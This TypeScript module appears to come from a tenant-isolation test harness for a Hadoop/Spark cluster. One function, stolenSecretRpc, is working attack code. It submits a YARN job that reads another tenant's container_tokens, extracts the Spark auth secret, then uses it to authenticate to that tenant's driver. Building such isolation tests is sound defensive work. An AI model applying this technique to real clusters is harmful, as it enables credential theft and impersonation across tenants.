// Another tenant's process that holds a Spark auth secret (the shared file, or only its own) and calls a driver,
// authenticating with Spark's own SASL client (fixtures/jobs SecretHolderClient), run on the gateway as that tenant.
import { createHash } from "node:crypto";
import { GATEWAY_NODE, NM_LOCAL_DIR, NM_LOG_DIR } from "../cluster/cluster-config.ts";
import { queueFor } from "../cluster/topology.ts";
import { SPARK_SECRET_ALIAS } from "../wire/yarn-secret-scan.ts";
import type { StartedCluster } from "../cluster/started-cluster.ts";
import { JOBS_JAR } from "../images/hadoop-spark-image.ts";
import { ROGUE_TARGET_DRIVER_PORT, type RogueOutcome } from "./rogue-rpc-client.ts";

export async function secretHolderRpc(cluster: StartedCluster, actor: string, secretFile: string): Promise<RogueOutcome> {
  const host = cluster.node(GATEWAY_NODE).host;
  const r = await cluster.exec(
    GATEWAY_NODE,
    ["bash", "-c", `java $(java-module-opts) -cp '/opt/spark/jars/*:${JOBS_JAR}:/opt/spark/conf' shieldlab.jobs.SecretHolderClient ${host} ${ROGUE_TARGET_DRIVER_PORT} ${secretFile} 2>/dev/null`],
    { user: actor, env: { HOME: `/home/${actor}` } },
  );
  const line = r.stdout.split("\n").find((l) => /^(DISPATCHED|REFUSED|UNREACHABLE)/.test(l)) ?? "";
  // UNREACHABLE: nothing listened (the driver was gone): no verdict either way, the checker says unknown
  const reached = line !== "" && !line.startsWith("UNREACHABLE");
  return {
    target: `${host}:${ROGUE_TARGET_DRIVER_PORT} (as ${actor}, secret ${secretFile === "-" ? "of its own" : secretFile})`,
    connected: reached,
    frames: reached ? [{ type: 0, typeName: "answer", text: line }] : [],
    closedByPeer: false,
    dispatched: line.startsWith("DISPATCHED"),
    error: reached ? undefined : line || `no answer line (exit ${r.exitCode}): ${r.stdout.slice(-300)}`,
  };
}

/**
 * The secret of another tenant's app, obtained the way a tenant on a DefaultContainerExecutor cluster can: its own
 * YARN container reads the victim AM's container_tokens (Hadoop credentials) on the shared NodeManager. Then the
 * attacker's process authenticates to the victim's driver with it. Only the secret's sha256 is ever recorded.
 */
export async function stolenSecretRpc(cluster: StartedCluster, target: { owner: string; appId: string }, attacker: string): Promise<RogueOutcome> {
  const victim = target.owner;
  const appId = target.appId;
  const node = cluster.nodeManagers[0]!.name;
  const tokens = `${NM_LOCAL_DIR}/usercache/${victim}/appcache/${appId}/container_*_000001/container_tokens`;
  const probe = await cluster.rm.as(attacker).submitProbe(queueFor(cluster.topology, attacker), `{ base64 -w0 ${tokens}; } 1><LOG_DIR>/stdout 2><LOG_DIR>/stderr`, "steal-tokens");
  if (!probe.appId || probe.status >= 300) throw new Error(`${attacker} could not submit the probe: HTTP ${probe.status}`);
  // whether or not it ended in time, what its container printed so far is the evidence
  await cluster.rm.as(attacker).waitForApp(probe.appId, 60_000).catch(() => undefined);
  const out = await cluster.exec(node, ["bash", "-c", `cat ${NM_LOG_DIR}/${probe.appId}/container_*_000001/stdout 2>/dev/null`]);
  const bytes = Buffer.from(out.stdout.trim(), "base64");
  const alias = Buffer.from([SPARK_SECRET_ALIAS.length, ...Buffer.from(SPARK_SECRET_ALIAS)]);
  const at = bytes.indexOf(alias);
  const len = at >= 0 ? bytes[at + alias.length] : undefined;
  if (at < 0 || len === undefined) {
    return { target: `${victim}'s driver`, connected: false, frames: [], closedByPeer: false, dispatched: false, error: `no sparkCookie in what ${attacker}'s container read (${bytes.length} bytes)` };
  }
  const secret = bytes.subarray(at + alias.length + 1, at + alias.length + 1 + len).toString("utf8");
  const file = `/home/${attacker}/stolen-spark-secret`;
  await cluster.exec(GATEWAY_NODE, ["bash", "-c", `umask 077; printf %s "$S" > ${file}`], { user: attacker, env: { S: secret } });
  const r = await secretHolderRpc(cluster, attacker, file);
  return { ...r, target: `${r.target}; secret sha256 ${createHash("sha256").update(secret).digest("hex").slice(0, 16)}… read by ${attacker}'s container ${probe.appId} from ${victim}'s AM container_tokens` };
}
